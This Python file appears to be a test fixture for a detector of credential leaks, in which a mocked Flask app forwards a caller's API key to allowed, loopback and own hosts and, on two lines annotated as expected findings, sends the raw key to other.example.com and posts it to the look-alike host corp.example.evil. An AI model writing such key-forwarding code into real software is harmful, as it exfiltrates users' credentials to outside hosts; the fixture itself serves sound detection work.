"""The caller's key relayed to hosts that are configured, that are this machine or the app's own, and to others."""

import urllib.request
from http.server import BaseHTTPRequestHandler, HTTPServer
from threading import Thread

import httpx
import requests
from flask import Flask, request
from requests.adapters import BaseAdapter

KEY = "ka7Jk2Lm9Qw4Er6Ty8Ui3Op5"
SECRETS = [KEY]
CONFIG = 'allowed_hosts = ["upstream.example.com", ".corp.example"]\n'

app = Flask(__name__)
sent = []


class Adapter(BaseAdapter):
    """Stands for the network, from TLS on."""

    def send(self, prepared, **kwargs):
        sent.append(prepared.headers.get("X-API-Key"))
        answer = requests.Response()
        answer.status_code, answer.url, answer.request, answer._content = 200, prepared.url, prepared, b"{}"
        return answer

    def close(self):
        pass


class Server(BaseHTTPRequestHandler):
    def do_GET(self):
        sent.append(self.headers.get("X-API-Key"))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


def transported(outgoing):
    sent.append(outgoing.headers.get("X-API-Key", "none"))
    return httpx.Response(200, json={})


@app.get("/requests/<host>")
def with_requests(host):
    session = requests.Session()
    session.mount("https://", Adapter())
    headers = {"X-API-Key": request.headers["X-API-Key"]}
    if host == "other":
        session.get("https://other.example.com/a", headers=headers)  # expect: raw-token-sent-elsewhere
    else:
        session.get(f"https://{host}/a", headers=headers)
    return {}


@app.get("/httpx/<host>")
def with_httpx(host):
    with httpx.Client(transport=httpx.MockTransport(transported)) as client:
        key = request.headers["X-API-Key"]
        if host == "other":
            body = {"key": key}
            client.post("https://corp.example.evil/", json=body)  # expect: raw-token-sent-elsewhere
        else:
            client.get(f"https://{host}/a", headers={"X-API-Key": key})
    return {}


@app.get("/loopback")
def loopback():
    asked = urllib.request.Request(f"http://127.0.0.1:{port}/", headers={"X-API-Key": request.headers["X-API-Key"]})
    with urllib.request.urlopen(asked):
        return {}


if __name__ == "__main__":
    server = HTTPServer(("127.0.0.1", 0), Server)
    port = server.server_address[1]
    Thread(target=server.serve_forever, daemon=True).start()
    app.config["SERVER_NAME"] = "own.example.com"
    client = app.test_client()
    for path in (
        "requests/upstream.example.com", "requests/a.b.corp.example", "requests/own.example.com", "requests/other",
        "httpx/corp.example", "httpx/own.example.com", "httpx/other", "loopback",
    ):  # fmt: skip
        answered = client.get(f"/{path}", headers={"X-API-Key": KEY}, base_url="http://own.example.com")
        assert answered.status_code == 200, path
    server.shutdown()
    assert sent == [KEY] * 6 + ["none", KEY], sent
